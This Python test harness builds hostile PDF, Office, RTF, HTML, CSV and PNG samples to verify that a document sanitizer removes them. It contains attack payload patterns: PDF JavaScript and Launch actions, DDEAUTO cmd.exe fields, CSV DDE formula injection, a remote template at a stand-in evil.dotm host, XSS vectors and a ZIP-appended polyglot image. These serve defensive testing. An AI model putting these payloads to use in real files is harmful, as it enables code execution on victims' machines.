#!/usr/bin/env python3
"""Generates one hostile sample per removal rule, runs bunri-sanitize on each and checks
the output with independent tools: qpdf --qdf / --check for PDF, unzip -t and Python's
XML parser for OOXML, the email package for mail, plain byte searches for RTF/HTML/CSV.

usage: hostile.py BUNRI_SANITIZE WORKDIR
Every sample is written by the functions below, so anyone can see how each was made."""
import email
import email.policy
import io
import json
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from xml.dom import minidom

FAILS = []


def fail(name, msg):
    FAILS.append(f"{name}: {msg}")
    print(f"FAIL {name}: {msg}")


# ---------------------------------------------------------------- PDF
def pdf(objs, root=1, trailer_extra=""):
    """objs: list of object bodies (object n is objs[n-1]); returns PDF bytes with a
    correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, body in enumerate(objs, 1):
        offs.append(len(out))
        if isinstance(body, str):
            body = body.encode()
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += (f"trailer\n<< /Size {len(objs)+1} /Root {root} 0 R {trailer_extra}>>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


def stream(data, extra=""):
    if isinstance(data, str):
        data = data.encode()
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra.encode()) + data + b"\nendstream"


CONTENT = stream("BT /F1 24 Tf 72 720 Td (Hello) Tj ET")
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page_pdf(catalog_extra="", page_extra="", extra_objs=()):
    """Catalog 1, Pages 2, Page 3, content 4, font 5, then extra_objs from 6."""
    objs = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> >> {page_extra} >>",
        CONTENT,
        FONT,
    ]
    objs += list(extra_objs)
    return pdf(objs)


def pdf_samples():
    js = "<< /S /JavaScript /JS (app.alert\\('x'\\)) >>"
    yield "pdf_openaction_js", page_pdf("/OpenAction 6 0 R", extra_objs=[js]), \
        "sanitized", ["pdf.javascript"], "pdf"
    yield "pdf_names_js", page_pdf("/Names << /JavaScript 6 0 R >>", extra_objs=[
        "<< /Names [(a) 7 0 R] >>", js]), "sanitized", ["pdf.javascript"], "pdf"
    yield "pdf_page_aa", page_pdf(page_extra="/AA << /O 6 0 R >>", extra_objs=[js]), \
        "sanitized", ["pdf.additional_actions"], "pdf"
    yield "pdf_doc_aa", page_pdf("/AA << /WC 6 0 R >>", extra_objs=[js]), \
        "sanitized", ["pdf.additional_actions"], "pdf"
    annot = ("<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 7 0 R "
             "/AA << /E 8 0 R >> >>")
    yield "pdf_annot_launch", page_pdf(page_extra="/Annots [6 0 R]", extra_objs=[
        annot, "<< /S /Launch /F (calc.exe) >>", js]), "sanitized", \
        ["pdf.launch", "pdf.additional_actions"], "pdf"
    for kind in ("SubmitForm", "ImportData", "GoToR", "GoToE"):
        a = f"<< /S /{kind} /F (http://example.invalid/x) >>"
        yield f"pdf_{kind.lower()}", page_pdf("/OpenAction 6 0 R", extra_objs=[a]), \
            "sanitized", [f"pdf.{kind.lower()}"], "pdf"
    # a form field with a keystroke script, reached through /AcroForm
    field = "<< /FT /Tx /T (f) /Rect [0 0 10 10] /AA << /K 7 0 R >> >>"
    yield "pdf_field_aa_xfa", page_pdf("/AcroForm << /Fields [6 0 R] /XFA 8 0 R >>", extra_objs=[
        field, js, stream("<xdp:xdp/>")]), "sanitized", ["pdf.additional_actions", "pdf.xfa"], "pdf"
    ef = stream("MZ fake exe", "/Type /EmbeddedFile ")
    spec = "<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>"
    yield "pdf_embedded_files", page_pdf("/Names << /EmbeddedFiles 6 0 R >>", extra_objs=[
        "<< /Names [(a.exe) 7 0 R] >>", spec, ef]), "sanitized", ["pdf.embedded_files"], "pdf"
    fa = "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 7 0 R >>"
    yield "pdf_file_attachment_annot", page_pdf(page_extra="/Annots [6 0 R]", extra_objs=[
        fa, spec, ef]), "sanitized", ["pdf.annotation/FileAttachment"], "pdf"
    rm = ("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] "
          "/RichMediaContent << /Assets << >> >> >>")
    yield "pdf_richmedia", page_pdf(page_extra="/Annots [6 0 R]", extra_objs=[rm]), \
        "sanitized", ["pdf.annotation/RichMedia"], "pdf"
    uri = ("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
           "/A << /S /URI /URI (http://example.invalid/) >> >>")
    yield "pdf_uri_kept", page_pdf(page_extra="/Annots [6 0 R]", extra_objs=[uri]), \
        "clean", [], "pdf"
    yield "pdf_uri_removed", page_pdf(page_extra="/Annots [6 0 R]", extra_objs=[uri]), \
        "sanitized", ["pdf.uri"], "pdf:uri_remove"
    # /Next chain: a harmless GoTo whose /Next runs a script
    nxt = "<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>"
    yield "pdf_next_chain", page_pdf("/OpenAction 6 0 R", extra_objs=[nxt, js]), \
        "sanitized", ["pdf.javascript"], "pdf"
    yield "pdf_openaction_dest_kept", page_pdf("/OpenAction [3 0 R /Fit]"), "clean", [], "pdf"


def objstm_pdf(workdir):
    """The JavaScript action lives only inside a compressed object stream (qpdf makes
    it), so a byte search of the file cannot see it."""
    src = os.path.join(workdir, "objstm_src.pdf")
    with open(src, "wb") as f:
        f.write(page_pdf("/OpenAction 6 0 R",
                         extra_objs=["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"]))
    dst = os.path.join(workdir, "objstm_gen.pdf")
    subprocess.run(["qpdf", "--object-streams=generate", "--compress-streams=y", src, dst],
                   check=True)
    data = open(dst, "rb").read()
    assert b"/JavaScript" not in data, "generator: JS should be compressed"
    return data


PDF_BAD_NAMES = [b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/ImportData", b"/GoToR",
                 b"/GoToE", b"/EmbeddedFile", b"/EmbeddedFiles", b"/EF", b"/RichMedia", b"/XFA",
                 b"/AA", b"/FileAttachment"]


def check_pdf(name, inp, out, variant):
    r = subprocess.run(["qpdf", "--check", out], capture_output=True)
    if r.returncode not in (0, 3):
        fail(name, "qpdf --check: " + r.stdout.decode(errors="replace")[-300:])
    check_pdf_keys(name, out, variant)


def check_pdf_keys(name, out, variant="pdf"):
    """Looks at the parsed object graph (qpdf --json, object streams expanded, stream
    data left out), so text inside page content cannot cause a false alarm."""
    r = subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", out], capture_output=True)
    if r.returncode not in (0, 3):
        fail(name, "qpdf cannot read the output")
        return
    data = r.stdout
    for k in PDF_BAD_NAMES:
        if b'"' + k + b'"' in data:
            fail(name, f"{k.decode()} left in the output (qpdf --json)")
    if variant == "pdf:uri_remove" and b'"/URI"' in data:
        fail(name, "/URI left in the output")
    if variant == "pdf" and name == "pdf_uri_kept" and b'"/URI"' not in data:
        fail(name, "/URI was removed although kept by config")


# ---------------------------------------------------------------- OOXML
CT_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
RELS_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def zipbytes(parts):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in parts:
            z.writestr(n, d)
    return b.getvalue()


def docm():
    ct = (CT_HEAD +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
          '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
          '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
          '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
          '</Types>')
    rels = (RELS_HEAD + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    doc_rels = (RELS_HEAD +
                '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>'
                '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>'
                '<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://example.invalid/track.png" TargetMode="External"/>'
                '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/>'
                '<Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.rtf"/>'
                '</Relationships>')
    settings_rels = (RELS_HEAD + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/evil.dotm" TargetMode="External"/></Relationships>')
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                f'<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>'
                '<w:p><w:r><w:t>本文 text</w:t></w:r></w:p>'
                # complex DDEAUTO field split over two runs
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
                '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                '<w:p><w:fldSimple w:instr=" DDE cmd /c calc "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
                '<w:p><w:r><w:object><o:OLEObject r:id="rId3"/></w:object></w:r></w:p>'
                '<w:altChunk r:id="rId6"/><w:p><w:r><w:t>end</w:t></w:r></w:p>'
                '</w:body></w:document>')
    settings = f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    return zipbytes([
        ("[Content_Types].xml", ct), ("_rels/.rels", rels),
        ("word/document.xml", document), ("word/_rels/document.xml.rels", doc_rels),
        ("word/settings.xml", settings), ("word/_rels/settings.xml.rels", settings_rels),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0fake vba"), ("word/vbaData.xml", "<wne:vbaSuppData xmlns:wne='x'/>"),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0fake ole"),
        ("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='x'/>"),
        ("word/afchunk.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
    ])


def media_docx():
    """A plain docx whose pictures are a PNG with a zip appended and a PNG with a bad
    CRC, both referenced from the document."""
    bad = bytearray(png())
    bad[30] ^= 0xff
    ct = (CT_HEAD +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="png" ContentType="image/png"/>'
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
          '</Types>')
    rels = (RELS_HEAD + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    doc_rels = (RELS_HEAD +
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/>'
                '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image2.png"/>'
                '</Relationships>')
    A = "http://schemas.openxmlformats.org/drawingml/2006/main"
    document = (f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:a="{A}"><w:body>'
                '<w:p><w:r><w:t>pictures</w:t></w:r></w:p>'
                '<w:p><w:r><a:blip r:embed="rId1"/></w:r></w:p><w:p><w:r><a:blip r:embed="rId2"/></w:r></w:p>'
                '</w:body></w:document>')
    return zipbytes([("[Content_Types].xml", ct), ("_rels/.rels", rels), ("word/document.xml", document),
                     ("word/_rels/document.xml.rels", doc_rels),
                     ("word/media/image1.png", png() + zipbytes([("x.js", "WScript")])),
                     ("word/media/image2.png", bytes(bad))])


def xlsm():
    ct = (CT_HEAD +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
          '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
          '<Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
          '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
          '<Override PartName="/xl/connections.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>'
          '</Types>')
    rels = RELS_HEAD + '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    wb_rels = (RELS_HEAD +
               '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
               '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet2.xml"/>'
               '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
               '<Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/connections" Target="connections.xml"/>'
               '</Relationships>')
    S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    wb = (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
          '<sheet name="S1" sheetId="1" r:id="rId1"/><sheet name="M" sheetId="2" r:id="rId2"/></sheets>'
          '<externalReferences><externalReference r:id="rId3"/></externalReferences></workbook>')
    sheet = f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{S}"><sheetData/></worksheet>'
    macro = f'<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData/></xm:macrosheet>'
    ext = (f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
           '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>')
    return zipbytes([
        ("[Content_Types].xml", ct), ("_rels/.rels", rels), ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", wb_rels), ("xl/worksheets/sheet1.xml", sheet),
        ("xl/macrosheets/sheet2.xml", macro), ("xl/externalLinks/externalLink1.xml", ext),
        ("xl/connections.xml", f'<?xml version="1.0"?><connections xmlns="{S}"><connection id="1" '
                               'name="q" type="4"><webPr url="http://example.invalid/q"/></connection></connections>'),
    ])


OOXML_BAD = ["vbaProject", "vbaData", "macrosheets/", "activeX/", "embeddings/", "externalLinks/",
             "afchunk", "connections.xml", "queryTables/"]


def dde_fields(xml):
    """Field instructions (complex fields joined across runs, and simple fields) that
    start with DDE."""
    found = []
    stack = []
    doc = minidom.parseString(xml)
    for el in doc.getElementsByTagName("*"):
        if el.tagName == "w:fldChar":
            t = el.getAttribute("w:fldCharType")
            if t == "begin":
                stack.append("")
            elif t in ("separate", "end") and stack:
                if stack[-1].strip().upper().startswith("DDE"):
                    found.append(stack[-1].strip())
                stack[-1] = ""
                if t == "end":
                    stack.pop()
        elif el.tagName == "w:instrText" and stack:
            stack[-1] += "".join(c.data for c in el.childNodes if c.nodeType == c.TEXT_NODE)
        elif el.tagName == "w:fldSimple" and el.getAttribute("w:instr").strip().upper().startswith("DDE"):
            found.append(el.getAttribute("w:instr"))
    return found


def check_ooxml(name, inp, out, variant):
    r = subprocess.run(["unzip", "-tq", out], capture_output=True)
    if r.returncode != 0:
        fail(name, "unzip -t: " + r.stdout.decode(errors="replace"))
        return
    z = zipfile.ZipFile(out)
    for n in z.namelist():
        if any(b in n for b in OOXML_BAD):
            fail(name, f"part {n} left in the output")
        data = z.read(n)
        if n.endswith((".xml", ".rels")):
            try:
                minidom.parseString(data)
            except Exception as e:  # noqa: BLE001 - any parse error is a failure
                fail(name, f"{n} is not well-formed: {e}")
            if b'TargetMode="External"' in data:
                fail(name, f"{n} still has an external relationship")
            if b"macroEnabled" in data or b"vbaProject" in data:
                fail(name, f"{n} still names a macro type")
            if n.startswith("word/") and dde_fields(data):
                fail(name, f"{n} still carries a DDE field: {dde_fields(data)}")
            if b"ddeLink" in data:
                fail(name, f"{n} still has a ddeLink")
    for n in z.namelist():
        if "/media/" in n and n.endswith(".png") and not z.read(n).endswith(b"IEND\xaeB`\x82"):
            fail(name, f"{n} carries data after its end")
    # every relationship target that is internal must exist
    for n in z.namelist():
        if not n.endswith(".rels"):
            continue
        base = n.replace("_rels/", "").rsplit(".rels", 1)[0]
        folder = base.rsplit("/", 1)[0] + "/" if "/" in base else ""
        for rel in minidom.parseString(z.read(n)).getElementsByTagName("Relationship"):
            t = rel.getAttribute("Target")
            p = os.path.normpath(folder + t).lstrip("/") if not t.startswith("/") else t[1:]
            if p not in z.namelist():
                fail(name, f"{n}: relationship to missing part {p}")


# ---------------------------------------------------------------- OLE2
def cfb(tree):
    """A compound file written by libgsf's own writer (through ctypes). tree maps names
    to bytes (streams) or to dicts (storages)."""
    import ctypes
    gsf = ctypes.CDLL("libgsf-1.so.114")
    gobj = ctypes.CDLL("libgobject-2.0.so.0")
    vp = ctypes.c_void_p
    gsf.gsf_output_memory_new.restype = vp
    gsf.gsf_outfile_msole_new.restype = vp
    gsf.gsf_outfile_msole_new.argtypes = [vp]
    gsf.gsf_outfile_new_child.restype = vp
    gsf.gsf_outfile_new_child.argtypes = [vp, ctypes.c_char_p, ctypes.c_int]
    gsf.gsf_output_write.argtypes = [vp, ctypes.c_size_t, ctypes.c_char_p]
    gsf.gsf_output_close.argtypes = [vp]
    gsf.gsf_output_size.argtypes = [vp]
    gsf.gsf_output_size.restype = ctypes.c_int64
    gsf.gsf_output_memory_get_bytes.argtypes = [vp]
    gsf.gsf_output_memory_get_bytes.restype = ctypes.POINTER(ctypes.c_ubyte)
    gobj.g_object_unref.argtypes = [vp]
    gsf.gsf_init()

    def fill(outfile, t):
        for name, v in t.items():
            child = gsf.gsf_outfile_new_child(outfile, name.encode(), isinstance(v, dict))
            if isinstance(v, dict):
                fill(child, v)
            elif v:
                assert gsf.gsf_output_write(child, len(v), v)
            gsf.gsf_output_close(child)
            gobj.g_object_unref(child)
    mem = gsf.gsf_output_memory_new()
    ole = gsf.gsf_outfile_msole_new(mem)
    fill(ole, tree)
    gsf.gsf_output_close(ole)
    gobj.g_object_unref(ole)
    gsf.gsf_output_close(mem)
    n = gsf.gsf_output_size(mem)
    data = bytes(gsf.gsf_output_memory_get_bytes(mem)[:n])
    gobj.g_object_unref(mem)
    return data


def fib(encrypted=False):
    """The start of a Word FIB: wIdent 0xA5EC, nFib, ..., flags with fEncrypted (0x0100)."""
    return struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0, 0x0100 if encrypted else 0) + b"\0" * 500


def biff(*records):
    return b"".join(struct.pack("<HH", t, len(d)) + d for t, d in records)


def boundsheet(dt):
    return (0x0085, struct.pack("<IBB", 0, 0, dt) + b"\x02\x00S1")


BOF = (0x0809, struct.pack("<HHHH", 0x0600, 0x0005, 0, 0))
EOF_REC = (0x000A, b"")


def ole2_samples():
    yield "macro.doc", cfb({"WordDocument": fib(), "1Table": b"\0" * 64,
                           "Macros": {"VBA": {"dir": b"\x01" * 32, "ThisDocument": b"Sub AutoOpen()"}},
                           "ObjectPool": {"_1234": {"\x01Ole10Native": b"MZ package"}}}), \
        "sanitized", ["ole2.vba", "ole2.object_pool"], "ole2"
    yield "macro.xls", cfb({"Workbook": biff(BOF, boundsheet(0), EOF_REC),
                           "_VBA_PROJECT_CUR": {"VBA": {"dir": b"\x01" * 32}},
                           "MBD0001": {"\x01Ole10Native": b"MZ"}}), \
        "sanitized", ["ole2.vba", "ole2.embedded_object"], "ole2"
    yield "encrypted.doc", cfb({"WordDocument": fib(encrypted=True), "1Table": b"\0" * 64}), \
        "blocked", [], None
    yield "filepass.xls", cfb({"Workbook": biff(BOF, (0x002F, b"\x01\x00" + b"\0" * 52), EOF_REC)}), \
        "blocked", [], None
    yield "xlm.xls", cfb({"Workbook": biff(BOF, boundsheet(0), boundsheet(1), EOF_REC)}), \
        "blocked", [], None
    ppt_vba = struct.pack("<HHI", 0x000F, 0x03E8, 16) + struct.pack("<HHI", 0x000F, 0x03FF, 8) + \
        struct.pack("<HHI", 0x0002, 0x0400, 0)
    yield "vba.ppt", cfb({"PowerPoint Document": ppt_vba + b"\0" * 600,
                         "Current User": b"\0" * 64}), "blocked", [], None


def check_ole2(name, inp, out, variant):
    d = open(out, "rb").read()
    if not d.startswith(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"):
        fail(name, "output is not a compound file")
    for k in ("Macros", "_VBA_PROJECT", "ObjectPool", "Ole10Native", "MBD0"):
        if k.encode("utf-16-le") in d:
            fail(name, f"storage {k} left in the output")
    for k in ("WordDocument", "Workbook"):
        if k.encode("utf-16-le") in inp and k.encode("utf-16-le") not in d:
            fail(name, f"stream {k} lost")


# ---------------------------------------------------------------- RTF, HTML, CSV
def rtf_samples():
    yield "rtf_object", (rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}Hello "
                         rb"{\object\objemb{\*\objclass Package}\objw10\objh10{\*\objdata 01050000020000000800000050616b61676500}"
                         rb"{\result{\pict\wmetafile8 00}}} world\par}"), "sanitized", ["rtf.object"], "rtf"
    yield "rtf_objdata_bare", (rb"{\rtf1 text{\*\objdata d0cf11e0a1b11ae1}more\par}"), \
        "sanitized", ["rtf.object"], "rtf"
    yield "rtf_dde_field", (rb"{\rtf1 a{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"}"
                            rb"{\fldrslt x}}b\par}"), "sanitized", ["rtf.dde"], "rtf"
    # DDE spelled with hex escapes inside a nested group
    yield "rtf_dde_hex", (rb"{\rtf1 a{\field{\*\fldinst {\rtlch \'44\'44EAUTO cmd}}{\fldrslt x}}b\par}"), \
        "sanitized", ["rtf.dde"], "rtf"
    # \bin data that contains braces must not unbalance the scan
    yield "rtf_bin_braces", (rb"{\rtf1 a{\object{\*\objdata \bin4 }}}{}}b\par}"), \
        "sanitized", ["rtf.object"], "rtf"
    yield "rtf_clean", rb"{\rtf1\ansi Plain {\b bold} text\par}", "clean", [], "rtf"


def rtf_tokens(d):
    """(kind, value) tokens of RTF: '{', '}', ('word', name), ('text', bytes)."""
    i = 0
    while i < len(d):
        c = d[i:i+1]
        if c in (b"{", b"}"):
            yield c, None
            i += 1
        elif c == b"\\":
            j = i + 1
            while j < len(d) and d[j:j+1].isalpha():
                j += 1
            if j == i + 1:
                if d[j:j+1] == b"'" and j + 2 < len(d):
                    yield "text", bytes([int(d[j+1:j+3], 16)])
                    i = j + 3
                else:
                    i = j + 1
                continue
            word = d[i+1:j].decode()
            k = j
            if d[k:k+1] == b"-":
                k += 1
            while k < len(d) and d[k:k+1].isdigit():
                k += 1
            param = d[j:k]
            if d[k:k+1] == b" ":
                k += 1
            if word == "bin" and param:
                k += int(param)
            yield "word", word
            i = k
        else:
            j = i
            while j < len(d) and d[j:j+1] not in (b"{", b"}", b"\\"):
                j += 1
            yield "text", d[i:j]
            i = j


def check_rtf(name, inp, out, variant):
    d = open(out, "rb").read()
    depth = 0
    inst = None  # text of the current field instruction
    inst_depth = 0
    for kind, v in rtf_tokens(d):
        if kind == b"{":
            depth += 1
        elif kind == b"}":
            if inst is not None and depth == inst_depth:
                if inst.strip().upper().startswith(b"DDE"):
                    fail(name, f"DDE field left: {inst[:40]!r}")
                inst = None
            depth -= 1
        elif kind == "word":
            if v in ("object", "objdata", "objclass", "objemb", "objlink", "objautlink"):
                fail(name, f"\\{v} left in the output")
            if v == "fldinst":
                inst, inst_depth = b"", depth
        elif kind == "text" and inst is not None:
            inst += v.replace(b"\r", b"").replace(b"\n", b"")
    if depth != 0 or not d.startswith(rb"{\rtf"):
        fail(name, f"output is not balanced RTF (depth {depth})")


def html_samples():
    yield "html_all", ("""<!DOCTYPE html><html><head><base href="http://evil.invalid/">
<meta http-equiv="refresh" content="0;url=http://evil.invalid/">
<script>alert(1)</script><link rel="import" href="http://evil.invalid/x"></head>
<body onload="alert(2)"><p onclick='x()'>テキスト本文</p>
<a href=" jav&#x09;ascript:alert(3)">a</a><a href="VBScript:msgbox(1)">b</a>
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" onerror="alert(4)">
<iframe src="http://evil.invalid/"></iframe><object data="x.swf"></object><embed src="x.swf">
<applet code="X.class"></applet><form action="http://evil.invalid/post"><input name=a></form>
<form action="/local"><input name=b></form><svg><script>alert(5)</script></svg>
<div style="width: expression(alert(6))">x</div><a href="https://ok.example/">ok</a>
</body></html>""").encode(), "sanitized", ["html.script", "html.event_handler", "html.script_url",
                                           "html.element", "html.meta_refresh", "html.form_offsite"], "html"
    yield "html_sjis", ('<html><head><meta charset="Shift_JIS"></head><body>'
                        '<p onclick="x()">住民税のお知らせ</p></body></html>').encode("shift_jis"), \
        "sanitized", ["html.event_handler"], "html"
    yield "html_clean", b"<html><body><p>plain <b>page</b> <a href='/x'>link</a></p></body></html>", \
        "clean", [], "html"


def check_html(name, inp, out, variant):
    d = open(out, "rb").read().lower()
    for k in (b"<script", b"onload", b"onclick", b"onerror", b"javascript:", b"vbscript:", b"data:",
              b"<iframe", b"<object", b"<embed", b"<applet", b"<base", b"refresh", b"evil.invalid",
              b"expression("):
        if k in d:
            fail(name, f"{k!r} left in the output")
    raw = open(out, "rb").read()
    if name == "html_all" and "テキスト本文".encode() not in raw:
        fail(name, "Japanese text lost")
    if name == "html_sjis" and ("住民税のお知らせ".encode() not in raw or b"charset=utf-8" not in d):
        fail(name, "Shift_JIS page not written as UTF-8 with its text")
    if name == "html_all":
        if b"/local" not in d or b"https://ok.example/" not in d:
            fail(name, "harmless form or link removed")


def csv_samples():
    yield "dde.csv", (b"name,value\n=cmd|' /C calc'!A0,1\n\"+HYPERLINK(\"\"http://x\"\")\",2\n"
                      b"@SUM(1+1)*cmd|' /C calc'!A0,3\n-2+3+cmd|' /C calc'!A0,4\nok,-12.5\nok,+3\n"), \
        "sanitized", ["csv.formula"], "csv"
    yield "plain.txt", "日本語のテキスト\n- list item\nprice -5 yen\n".encode(), "clean", [], "csv"


def check_csv(name, inp, out, variant):
    d = open(out, "rb").read()
    for line in d.split(b"\n"):
        for cell in line.split(b","):
            c = cell.strip(b'"')
            if c[:1] in (b"=", b"@") or (c[:1] in (b"+", b"-") and not c[1:].replace(b".", b"").isdigit()
                                            and name.endswith(".csv")):
                fail(name, f"formula cell left: {cell!r}")
    if name == "dde.csv" and (b"ok,-12.5" not in d or b"ok,+3" not in d):
        fail(name, "numbers were altered")
    if name == "plain.txt" and d != inp:
        fail(name, "plain text changed")


# ---------------------------------------------------------------- images
def png(w=2, h=2):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    raw = b"".join(b"\0" + b"\xff\x00\x00" * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def image_samples():
    yield "img.png", png(), "clean", [], "image"
    yield "polyglot.png", png() + zipbytes([("evil.js", "WScript.Shell")]), "sanitized", \
        ["image.trailing_data"], "image"
    bad = bytearray(png())
    bad[30] ^= 0xff
    yield "badcrc.png", bytes(bad), "blocked", [], None
    gif = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
           b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
    yield "img.gif", gif, "clean", [], "image"


def check_image(name, inp, out, variant):
    d = open(out, "rb").read()
    if name == "polyglot.png" and (b"PK" in d or not d.endswith(b"IEND\xaeB`\x82")):
        fail(name, "data after IEND left")


